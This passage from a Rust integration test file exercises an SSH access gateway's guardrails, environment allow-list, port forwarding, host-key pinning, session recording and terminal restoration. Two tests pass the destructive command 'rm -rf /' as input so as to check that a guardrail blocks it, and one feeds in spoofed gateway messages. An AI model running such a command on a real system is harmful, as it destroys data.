    assert!(!stderr(&out).contains("SIGTERM"), "{}", explain(&env, &out));
    let id = review_id_in(&stderr(&out), "waiting for review ");
    assert_eq!(
        state_soon(&env, id, "withdrawn").await,
        "withdrawn",
        "{}",
        env.gw.logs()
    );
    assert!(!marker.exists(), "a timed-out held command ran");
}

#[tokio::test]
async fn a_target_cannot_pass_its_output_off_as_the_gateways_answer() {
    let env = setup(GUARDED).await;
    // A command that prints the gateway's block line and exits with its status is still the
    // target's command: its stderr and status pass through as output.
    let spoof =
        "echo 'hoop: blocked by guardrail fake: nothing; the command was not run' >&2; exit 86";
    let out = env.hoop(&["exec", "web", "-o", "json", spoof]);
    assert_eq!(code(&out), 86, "{}", explain(&env, &out));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["exit_status"], 86, "{v}");
    assert!(
        v["stderr"]
            .as_str()
            .unwrap_or_default()
            .contains("blocked by guardrail fake"),
        "{v}"
    );
    // A review notice printed by the target is output, not a review.
    let spoof = "echo 'hoop: command needs approval (x): review 1; approve with `hoop approve 1`; waiting up to 5m' >&2";
    let out = env.hoop(&["exec", "web", "-o", "json", "--stream", spoof]);
    assert_eq!(code(&out), 0, "{}", explain(&env, &out));
    let events: Vec<serde_json::Value> = stdout(&out)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert!(!events.iter().any(|e| e["event"] == "review"), "{events:?}");
    assert!(
        events.iter().any(|e| e["event"] == "output"
            && e["stream"] == "stderr"
            && e["data"].as_str().unwrap_or_default().contains("review 1")),
        "{events:?}"
    );
    // The gateway's real block is still an error, with no output object.
    let out = env.hoop(&["exec", "web", "-o", "json", "rm -rf /"]);
    assert_eq!(code(&out), 86, "{}", explain(&env, &out));
    assert!(
        stderr(&out).contains("blocked by guardrail no-destructive"),
        "{}",
        explain(&env, &out)
    );
}

#[tokio::test]
async fn env_requests_pass_only_on_the_allow_list() {
    let env = setup(r#"env_allow = ["HOOP_TEST_OK*"]"#).await;
    let out = env
        .client
        .ssh(
            &[
                "-o",
                "SetEnv=HOOP_TEST_OK_1=yes HOOP_TEST_NO=leaked",
                "echo \"[$HOOP_TEST_OK_1][$HOOP_TEST_NO]\"",
            ],
            None,
        )
        .unwrap();
    assert_eq!(code(&out), 0, "{}", explain(&env, &out));
    // sshd accepts both (AcceptEnv HOOP_TEST_*): only the gateway dropped the second.
    assert_eq!(stdout(&out), "[yes][]\n", "{}", explain(&env, &out));
}

#[tokio::test]
async fn allowed_port_forwarding_reaches_the_target_side() {
    let env = setup("allow_port_forwarding = true").await;
    // ssh -W: stdin/stdout become a TCP connection opened from the target; the target's own
    // sshd answers with its banner.
    let mut child = spawn(env.client.ssh_command(&[
        "-o",
        "ExitOnForwardFailure=yes",
        "-W",
        &format!("127.0.0.1:{}", env.sshd.port),
    ]));
    let mut banner = Vec::new();
    let mut stdout_pipe = child.stdout.take().unwrap();
    let read = async {
        use tokio::io::AsyncReadExt;
        let mut buf = [0u8; 256];
        while !banner.contains(&b'\n') {
            let n = stdout_pipe.read(&mut buf).await.unwrap();
            if n == 0 {
                break;
            }
            banner.extend_from_slice(&buf[..n]);
        }
    };
    tokio::time::timeout(Duration::from_secs(30), read)
        .await
        .unwrap_or_else(|_| panic!("no banner:\n{}", env.gw.logs()));
    let _ = child.kill().await;
    assert!(
        String::from_utf8_lossy(&banner).starts_with("SSH-2.0-"),
        "{}\n{}",
        String::from_utf8_lossy(&banner),
        env.gw.logs()
    );
    assert!(
        audited(&env, |e| e["kind"] == "ssh.forward"
            && e["outcome"] == "success")
        .await,
        "not audited:\n{}",
        env.gw.logs()
    );
}

#[tokio::test]
async fn hoop_connect_shows_the_gateway_ssh_host_key_and_it_verifies() {
    let env = setup("").await;
    let out = env.hoop(&["connections", "-o", "json"]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let list: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let key = list[0]["ssh_host_key"].as_str().unwrap().to_string();
    assert!(key.starts_with("ssh-ed25519 "), "{key}");
    // A known_hosts file holding only that line, strict checking: ssh connects without asking.
    let known = env.sshd.dir().join("pinned_known_hosts");
    std::fs::write(&known, format!("hoop-gateway {key}\n")).unwrap();
    let out = env.client.ssh_pinned(&known, &["echo pinned"]).unwrap();
    assert_eq!(code(&out), 0, "{}", explain(&env, &out));
    assert_eq!(stdout(&out), "pinned\n");
    // A different key under that alias is refused by ssh itself.
    std::fs::write(
        &known,
        format!("hoop-gateway {}\n", unrelated_host_key().unwrap()),
    )
    .unwrap();
    let out = env.client.ssh_pinned(&known, &["echo pinned"]).unwrap();
    assert!(
        stderr(&out).contains("REMOTE HOST IDENTIFICATION HAS CHANGED")
            || stderr(&out).contains("Host key verification failed"),
        "{}",
        explain(&env, &out)
    );
    assert_eq!(code(&out), 255, "{}", explain(&env, &out));
}

#[tokio::test]
async fn record_input_puts_what_the_client_sent_in_the_recording() {
    let env = setup("record_input = true").await;
    let out = env
        .client
        .ssh(&["cat"], Some(b"input-line-1\ninput-line-2\n"))
        .unwrap();
    assert_eq!(code(&out), 0, "{}", explain(&env, &out));
    assert_eq!(stdout(&out), "input-line-1\ninput-line-2\n");
    recorded(&env).await;
    let pool = env.gw.db().await.unwrap();
    let (session,): (String,) =
        sqlx::query_as("SELECT session_id FROM statements WHERE text = 'cat' LIMIT 1")
            .fetch_one(&pool)
            .await
            .unwrap();
    pool.close().await;
    let out = env.hoop(&["replay", &session, "--cast"]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let cast = stdout(&out);
    let (_, events) = hoop_shared::asciicast::parse(&cast).unwrap();
    let input: String = events
        .iter()
        .filter(|e| e.code == "i")
        .map(|e| e.data.as_str())
        .collect();
    assert_eq!(input, "input-line-1\ninput-line-2\n", "{cast}");
    let output: String = events
        .iter()
        .filter(|e| e.code == "o")
        .map(|e| e.data.as_str())
        .collect();
    assert!(output.contains("input-line-2"), "{cast}");
}

/// Runs a command in a real pty and prints everything the terminal showed until it closed.
const PTY_CAPTURE: &str = r#"
import os, pty, sys, select
args = sys.argv[1:]
pid, fd = pty.fork()
if pid == 0:
    os.execvp(args[0], args)
buf = b''
while True:
    r, _, _ = select.select([fd], [], [], 60)
    if not r:
        break
    try:
        chunk = os.read(fd, 65536)
    except OSError:
        break
    if not chunk:
        break
    buf += chunk
os.waitpid(pid, 0)
sys.stdout.buffer.write(buf)
"#;

#[tokio::test]
async fn hoop_ssh_restores_the_terminal_on_every_exit_path() {
    let env = setup(GUARDED).await;
    // In one pty: hoop ssh with a terminal (raw mode), its status, then the terminal's modes.
    for (args, status) in [
        (vec!["ssh", "web", "-t", "--", "exit", "5"], 5),
        // Blocked by a guardrail: the gateway answers, hoop exits 86.
        (vec!["ssh", "web", "-t", "--", "rm", "-rf", "/"], 86),
        // No such connection: hoop fails before it connects.
        (vec!["ssh", "nope", "-t", "--", "true"], 85),
    ] {
        let cmd = env.cli.command(&args).unwrap();
        let mut py = std::process::Command::new("python3");
        py.arg("-c")
            .arg(PTY_CAPTURE)
            .args(["sh", "-c", "\"$@\"; echo \"STATUS $?\"; stty -a", "sh"])
            .arg(cmd.get_program())
            .args(cmd.get_args());
        for (k, v) in cmd.get_envs() {
            match v {
                Some(v) => py.env(k, v),
                None => py.env_remove(k),
            };
        }
        py.env("HOOP_TOKEN", &env.key).env("TERM", "xterm");
        let out = py.output().unwrap();
        let text = stdout(&out);
        assert!(
            text.contains(&format!("STATUS {status}")),
            "{args:?}: {}",
            explain(&env, &out)
        );
        let modes = text.split("STATUS").nth(1).unwrap_or_default();
        let words: Vec<&str> = modes.split_whitespace().collect();
        for restored in ["icanon", "echo", "isig", "icrnl", "opost"] {
            assert!(
                words.contains(&restored),
                "{args:?}: {restored} not restored:\n{modes}"
            );
        }
    }
}
